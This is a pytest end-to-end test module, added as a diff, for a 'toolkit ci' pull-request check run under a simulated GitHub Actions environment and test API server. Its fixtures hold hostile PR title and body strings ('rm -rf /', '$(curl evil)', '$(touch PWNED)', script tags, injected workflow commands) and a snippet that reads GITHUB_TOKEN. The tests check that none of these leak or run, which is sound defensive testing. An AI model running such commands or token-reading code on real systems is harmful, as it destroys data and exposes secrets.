@@ -1,0 +1,418 @@
+"""`toolkit ci` end to end: a scaffolded project's PR check, run as GitHub Actions runs it.
+
+The project is scaffolded with `toolkit new`, its baseline reproduced and committed on main once
+per session (per xdist worker); each test copies it, opens a "pull request" (a branch that changes
+a param, merged into main the way actions/checkout presents it), and runs `toolkit ci` in a
+subprocess with the runner's environment, a real payload adapted to the commits, and the
+GitHub-compatible test server as GITHUB_API_URL.
+"""
+
+from __future__ import annotations
+
+import itertools
+import os
+import re
+import shutil
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+
+from tests.gh_helpers import PR, REPO, actions_env, adapt_event, parse_outputs, seed_busy_pr
+from tests.github_server import READONLY_TOKEN, TOKEN, Fault, GitHubServer, rate_limit
+from tests.gitrepo import commit_all, git
+from toolkit import sticky
+from toolkit.marker import parse_marker
+
+NASTY_TITLE = "`rm -rf /`; $(curl evil) | <script>"
+NASTY_BODY = "<script>alert(1)</script>\n::add-mask::x\n::error::injected\n$(touch PWNED)"
+NASTY = ("$(curl evil)", "<script>", "rm -rf", "::error::injected", "touch PWNED")
+
+
+def _clean_env(git_config: Path) -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "RUNNER_"))}
+    env.pop("GH_TOKEN", None)
+    env.update(
+        GIT_CONFIG_GLOBAL=str(git_config),
+        GIT_CONFIG_NOSYSTEM="1",
+        DVC_NO_ANALYTICS="1",
+        PATH=str(Path(sys.executable).parent) + os.pathsep + os.environ.get("PATH", ""),
+    )
+    return env
+
+
+def _toolkit(args: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "toolkit", *args], cwd=cwd, env=env, capture_output=True, text=True
+    )
+
+
+@pytest.fixture(scope="session")
+def reproduced(tmp_path_factory: pytest.TempPathFactory, _git_config: Path) -> Path:
+    """A folder holding `demo/` (scaffolded, baseline reproduced and committed on main) and its
+    DVC remote; built once, copied by every test."""
+    base = tmp_path_factory.mktemp("scaffold")
+    env = _clean_env(_git_config)
+    done = _toolkit(["new", "demo"], base, env)
+    assert done.returncode == 0, done.stderr
+    demo = base / "demo"
+    done = _toolkit(["repro"], demo, env)
+    assert done.returncode == 0, done.stderr
+    for cmd in (["add", "-A"], ["commit", "-q", "-m", "Baseline metrics"]):
+        subprocess.run(["git", *cmd], cwd=demo, env=env, check=True, capture_output=True)
+    # The baseline's data on the project's DVC remote (a folder beside it), as CI would find it.
+    dvc = subprocess.run([sys.executable, "-m", "dvc", "push"], cwd=demo, env=env, capture_output=True)
+    assert dvc.returncode == 0, dvc.stderr
+    return base
+
+
+@dataclass
+class PullRequest:
+    root: Path  # the checkout (the merge commit, as actions/checkout leaves it)
+    base_sha: str
+    head_sha: str
+    merge_sha: str
+
+
+def open_pr(
+    reproduced: Path,
+    dest: Path,
+    *,
+    c: str = "0.01",
+    gate_min: str | None = None,
+    evaluate_suffix: str = "",
+) -> PullRequest:
+    """Copy the project; branch `feature` changes train.C (and maybe a gate); check out the merge."""
+    shutil.copytree(reproduced, dest, symlinks=True)
+    root = dest / "demo"
+    base_sha = git(root, "rev-parse", "HEAD")
+    git(root, "checkout", "-q", "-b", "feature")
+    params = root / "params.yaml"
+    params.write_text(re.sub(r"C: [0-9.]+", f"C: {c}", params.read_text()))
+    if gate_min is not None:
+        config = root / "toolkit.yaml"
+        config.write_text(re.sub(r"min: [0-9.]+", f"min: {gate_min}", config.read_text()))
+    if evaluate_suffix:
+        script = root / "src" / "evaluate.py"
+        script.write_text(script.read_text() + evaluate_suffix)
+    head_sha = commit_all(root, "Change C")
+    git(root, "checkout", "-q", "--detach", base_sha)
+    git(root, "merge", "-q", "--no-ff", "-m", "Merge feature into main", "feature")
+    return PullRequest(root, base_sha, head_sha, git(root, "rev-parse", "HEAD"))
+
+
+@dataclass
+class Run:
+    proc: subprocess.CompletedProcess[str]
+    env: dict[str, str]
+
+    @property
+    def summary(self) -> str:
+        return Path(self.env["GITHUB_STEP_SUMMARY"]).read_text(encoding="utf-8")
+
+    @property
+    def outputs(self) -> dict[str, str]:
+        return parse_outputs(Path(self.env["GITHUB_OUTPUT"]))
+
+    @property
+    def report(self) -> str:
+        return (Path(self.env["RUNNER_TEMP"]) / "toolkit-report.md").read_text(encoding="utf-8")
+
+    def overhead(self) -> float:
+        m = re.search(
+            r"toolkit ci: [0-9.]+ s in total, [0-9.]+ s in the pipeline, ([0-9.]+) s", self.proc.stderr
+        )
+        assert m, self.proc.stderr
+        return float(m.group(1))
+
+    def everything(self, gh: GitHubServer) -> bytes:
+        files = [Path(self.env[k]).read_bytes() for k in ("GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT")]
+        files += [p.read_bytes() for p in Path(self.env["RUNNER_TEMP"]).iterdir() if p.is_file()]
+        return b"\n".join([self.proc.stdout.encode(), self.proc.stderr.encode(), *files, gh.received()])
+
+
+def run_ci(
+    pr: PullRequest,
+    gh: GitHubServer,
+    runner: Path,
+    *,
+    token: str = TOKEN,
+    changes: dict[str, object] | None = None,
+    event: str = "pull_request",
+) -> Run:
+    """`toolkit ci` with the environment of a GitHub Actions step on a pull_request event."""
+    payload = adapt_event(
+        "pull_request_synchronize.payload.json",
+        runner.parent / f"{runner.name}-event.json",
+        {
+            "pull_request.base.sha": pr.base_sha,
+            "pull_request.base.ref": "main",
+            "pull_request.head.sha": pr.head_sha,
+            "pull_request.head.ref": "feature",
+            "pull_request.title": NASTY_TITLE,
+            "pull_request.body": NASTY_BODY,
+            **(changes or {}),
+        },
+    )
+    env = {**os.environ, **actions_env(runner, event=event, event_path=payload, api_url=gh.url, token=token)}
+    env["GITHUB_SHA"] = pr.merge_sha
+    proc = _toolkit(["ci"], pr.root, env)
+    return Run(proc, env)
+
+
+@pytest.fixture
+def github() -> Iterator[GitHubServer]:
+    with GitHubServer() as gh:
+        gh.add_pr(REPO, PR)
+        yield gh
+
+
+def ours(gh: GitHubServer) -> list[dict[str, object]]:
+    return [c for c in gh.comments(REPO, PR) if sticky.is_ours(c, "default")]
+
+
+def assert_clean(run: Run, gh: GitHubServer) -> None:
+    """No token anywhere (but the mask command), no untrusted payload text anywhere."""
+    data = run.everything(gh).replace(f"::add-mask::{TOKEN}".encode(), b"")
+    assert TOKEN.encode() not in data
+    assert READONLY_TOKEN.encode() not in data
+    for text in NASTY:
+        assert text.encode() not in data, text
+    assert not list(Path(run.env["RUNNER_TEMP"]).parent.glob("**/PWNED"))
+
+
+def test_pr_check_posts_one_comment_through_reruns(
+    reproduced: Path, github: GitHubServer, tmp_path: Path
+) -> None:
+    seed_busy_pr(github, 250)
+    pr = open_pr(reproduced, tmp_path / "w")
+    run = run_ci(pr, github, tmp_path / "runner")
+    assert run.proc.returncode == 0, run.proc.stderr
+    assert run.proc.stdout.splitlines()[0] == f"::add-mask::{TOKEN}"
+    assert "::error" not in run.proc.stdout
+
+    mine = ours(github)
+    assert len(mine) == 1
+    body = str(mine[0]["body"])
+    assert body == run.report
+    fields = parse_marker(body)
+    assert fields is not None
+    assert fields["id"] == "default" and fields["head"] == pr.head_sha != pr.merge_sha
+    # The time of the push that made this head (the payload's updated_at): orders reports.
+    assert fields["time"] == str(int(datetime(2019, 5, 15, 15, 20, 33, tzinfo=UTC).timestamp()))
+    assert "train.C" in body
+    assert run.summary.strip() == run.report.strip()
+    outputs = run.outputs
+    assert outputs["failed-gates"] == "0"
+    assert outputs["comment-url"] == mine[0]["html_url"]
+    assert outputs["report-path"] == str(Path(run.env["RUNNER_TEMP"]) / "toolkit-report.md")
+    assert outputs["verdict"] and "\n" not in outputs["verdict"]
+    # 250 comments: 3 pages to find ours, 1 create, the last page again for a racing run's.
+    methods = [r.method for r in github.requests()]
+    assert methods == ["GET"] * 3 + ["POST", "GET"]
+    assert "5 GitHub API requests" in run.proc.stderr
+    assert_clean(run, github)
+    print(f"first run overhead: {run.overhead():.2f} s")
+
+    rerun = run_ci(pr, github, tmp_path / "runner2")
+    assert rerun.proc.returncode == 0, rerun.proc.stderr
+    assert len(ours(github)) == 1
+    assert ours(github)[0]["id"] == mine[0]["id"]
+    assert str(ours(github)[0]["body"]) == rerun.report
+    assert len(github.requests()) - len(methods) <= 4  # 3 pages + at most one PATCH
+    assert_clean(rerun, github)
+    print(f"rerun overhead: {rerun.overhead():.2f} s")
+
+    # A re-run of an older run (older payload, older head) must not overwrite the newer report.
+    older = run_ci(
+        pr,
+        github,
+        tmp_path / "runner3",
+        changes={"pull_request.updated_at": "2019-05-15T15:00:00Z", "pull_request.head.sha": pr.base_sha},
+    )
+    assert older.proc.returncode == 0, older.proc.stderr
+    assert "Kept the report comment of a newer commit" in older.proc.stderr
+    assert "::notice title=toolkit ci%3A comment kept::Kept the report comment" in older.proc.stdout
+    assert [str(c["body"]) for c in ours(github)] == [rerun.report]
+
+
+def test_failing_gate_exits_3_with_an_annotation(
+    reproduced: Path, github: GitHubServer, tmp_path: Path
+) -> None:
+    # The PR's code also tries to read the token: the pipeline runs without it.
+    spy = "\nimport os, pathlib\npathlib.Path('seen.txt').write_text(repr(os.environ.get('GITHUB_TOKEN')))\n"
+    pr = open_pr(reproduced, tmp_path / "w", gate_min="0.999", evaluate_suffix=spy)
+    run = run_ci(pr, github, tmp_path / "runner")
+    assert run.proc.returncode == 3, run.proc.stderr
+    assert (pr.root / "seen.txt").read_text() == "None"
+    lines = (pr.root / "toolkit.yaml").read_text().splitlines()
+    gate_line = next(i for i, line in enumerate(lines, 1) if "metric: accuracy" in line)
+    errors = [line for line in run.proc.stdout.splitlines() if line.startswith("::error ")]
+    assert len(errors) == 1
+    assert errors[0].startswith(f"::error file=toolkit.yaml,line={gate_line},title=")
+    assert "accuracy" in errors[0]
+    assert run.outputs["failed-gates"] == "1"
+    assert len(ours(github)) == 1  # the report is posted all the same
+    assert run.summary
+    assert_clean(run, github)
+
+
+def test_fork_pr_with_read_only_token_warns_and_passes(
+    reproduced: Path, github: GitHubServer, tmp_path: Path
+) -> None:
+    pr = open_pr(reproduced, tmp_path / "w")
+    run = run_ci(
+        pr,
+        github,
+        tmp_path / "runner",
+        token=READONLY_TOKEN,
+        changes={"pull_request.head.repo.full_name": "evil-fork/Hello-World"},
+    )
+    assert run.proc.returncode == 0, run.proc.stderr
+    warnings = [line for line in run.proc.stdout.splitlines() if line.startswith("::warning")]
+    assert len(warnings) == 1
+    assert "not posted" in warnings[0] and "fork" in warnings[0]
+    assert "pull-requests: write" in warnings[0].replace("%0A", "\n")
+    assert "from a fork" in run.proc.stderr
+    assert github.comments(REPO, PR) == []
+    assert run.summary.strip() == run.report.strip()
+    assert run.outputs["comment-url"] == ""
+    assert run.outputs["failed-gates"] == "0"
+    data = run.everything(github).replace(f"::add-mask::{READONLY_TOKEN}".encode(), b"")
+    assert READONLY_TOKEN.encode() not in data
+
+
+def test_bad_token_fails_after_writing_the_summary(
+    reproduced: Path, github: GitHubServer, tmp_path: Path
+) -> None:
+    pr = open_pr(reproduced, tmp_path / "w")
+    run = run_ci(pr, github, tmp_path / "runner", token="ghs_WRONGTOKEN999")
+    assert run.proc.returncode == 1
+    assert "Error: " in run.proc.stderr and "GITHUB_TOKEN" in run.proc.stderr
+    assert "Traceback" not in run.proc.stderr
+    assert run.summary and run.outputs["failed-gates"] == "0"
+    assert b"ghs_WRONGTOKEN999" not in run.everything(github).replace(b"::add-mask::ghs_WRONGTOKEN999", b"")
+
+
+def test_push_event_writes_the_summary_and_posts_nothing(
+    reproduced: Path, github: GitHubServer, tmp_path: Path, events_dir: Path
+) -> None:
+    work = tmp_path / "w"
+    shutil.copytree(reproduced, work, symlinks=True)
+    root = work / "demo"
+    sha = git(root, "rev-parse", "HEAD")
+    payload = adapt_event("push_with-new-branch.payload.json", tmp_path / "push.json", {"after": sha})
+    runner = tmp_path / "runner"
+    env = {
+        **os.environ,
+        **actions_env(runner, event="push", event_path=payload, api_url=github.url, token=TOKEN),
+    }
+    env["GITHUB_SHA"] = sha
+    proc = _toolkit(["ci"], root, env)
+    assert proc.returncode == 0, proc.stderr
+    assert github.requests() == []
+    assert Path(env["GITHUB_STEP_SUMMARY"]).read_text().startswith("<!-- toolkit:report")
+    assert parse_outputs(Path(env["GITHUB_OUTPUT"]))["comment-url"] == ""
+
+
+def test_outside_actions_prints_the_report_and_touches_no_network(
+    reproduced: Path, github: GitHubServer, tmp_path: Path
+) -> None:
+    pr = open_pr(reproduced, tmp_path / "w")
+    git(pr.root, "checkout", "-q", "feature")
+    env = {**os.environ, "GITHUB_API_URL": github.url, "GITHUB_TOKEN": TOKEN}
+    out = tmp_path / "report.md"
+    proc = _toolkit(["ci", "-o", str(out)], pr.root, env)
+    assert proc.returncode == 0, proc.stderr
+    assert proc.stdout.startswith("<!-- toolkit:report id=default head=")
+    assert proc.stdout == out.read_text()
+    assert not [line for line in proc.stdout.splitlines() if line.startswith("::")]
+    assert github.requests() == []
+    assert TOKEN not in proc.stdout + proc.stderr
+    assert "overhead" in proc.stderr
+
+
+def test_two_concurrent_ci_runs_through_faults_leave_one_comment(
+    reproduced: Path, github: GitHubServer, tmp_path: Path
+) -> None:
+    seed_busy_pr(github, 120)
+    github.faults.extend([Fault(502), rate_limit(retry_after=1), Fault(503, method="POST")])
+    barrier = threading.Barrier(2, timeout=60)
+    posts = itertools.count()
+
+    def hook(method: str, path: str) -> None:
+        # Hold the first two POSTs until both runs have listed and found nothing: the worst
+        # interleaving, every time (a retried POST passes straight through).
+        if method == "POST" and next(posts) < 2:
+            barrier.wait()
+
+    github.hook = hook
+    prs = [open_pr(reproduced, tmp_path / f"w{i}", c="1.0") for i in range(2)]
+    runs: list[Run] = []
+    threads = [
+        threading.Thread(target=lambda p=p, i=i: runs.append(run_ci(p, github, tmp_path / f"r{i}")))
+        for i, p in enumerate(prs)
+    ]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(300)
+    assert [r.proc.returncode for r in runs] == [0, 0], [r.proc.stderr for r in runs]
+    assert len(github.requests("POST")) >= 2  # both created (one after a 503)
+    assert len(ours(github)) == 1
+    assert str(ours(github)[0]["body"]) in {r.report for r in runs}
+    for run in runs:
+        assert_clean(run, github)
+
+
+def test_no_token_in_actions_is_a_warning(reproduced: Path, github: GitHubServer, tmp_path: Path) -> None:
+    pr = open_pr(reproduced, tmp_path / "w", c="1.0")
+    run = run_ci(pr, github, tmp_path / "runner", token="")
+    assert run.proc.returncode == 0, run.proc.stderr
+    assert "::warning title=toolkit ci%3A no PR comment::" in run.proc.stdout
+    assert "GITHUB_TOKEN is not set" in run.proc.stdout
+    assert github.requests() == []
+    assert run.summary
+
+
+def test_unsupported_event_says_what_is_supported(tmp_path: Path, events_dir: Path) -> None:
+    env = {
+        **os.environ,
+        **actions_env(
+            tmp_path / "runner",
+            event="issue_comment",
+            event_path=events_dir / "issue_comment_created.payload.json",
+        ),
+    }
+    proc = _toolkit(["ci"], tmp_path, env)
+    assert proc.returncode == 1
+    assert "pull_request, push, workflow_dispatch, schedule" in proc.stderr
+    assert "Traceback" not in proc.stderr
+
+
+def test_shallow_checkout_of_the_merge_commit(reproduced: Path, github: GitHubServer, tmp_path: Path) -> None:
+    # What actions/checkout leaves: the merge commit alone (fetch-depth 1), no base, no branches,
+    # no DVC cache; the base must be fetched and the data pulled from the DVC remote.
+    pr = open_pr(reproduced, tmp_path / "w")
+    clone = tmp_path / "w" / "checkout"  # beside demo/, so the relative DVC remote URL resolves
+    clone.mkdir()
+    git(clone, "init", "-q")
+    git(clone, "remote", "add", "origin", pr.root.as_uri())
+    git(clone, "fetch", "-q", "--depth=1", "origin", f"+{pr.merge_sha}:refs/remotes/pull/{PR}/merge")
+    git(clone, "checkout", "-q", "--detach", pr.merge_sha)
+    assert git(clone, "rev-parse", "--is-shallow-repository") == "true"
+    missing = subprocess.run(["git", "cat-file", "-e", f"{pr.base_sha}^{{commit}}"], cwd=clone)
+    assert missing.returncode != 0
+
+    run = run_ci(PullRequest(clone, pr.base_sha, pr.head_sha, pr.merge_sha), github, tmp_path / "r")
+    assert run.proc.returncode == 0, run.proc.stderr
+    mine = ours(github)
+    assert len(mine) == 1 and str(mine[0]["body"]) == run.report
+    assert f"`{pr.base_sha[:7]}`" in run.report and "train.C" in run.report
+    assert git(clone, "rev-parse", "--is-shallow-repository") == "true"  # not unshallowed
+    assert_clean(run, github)
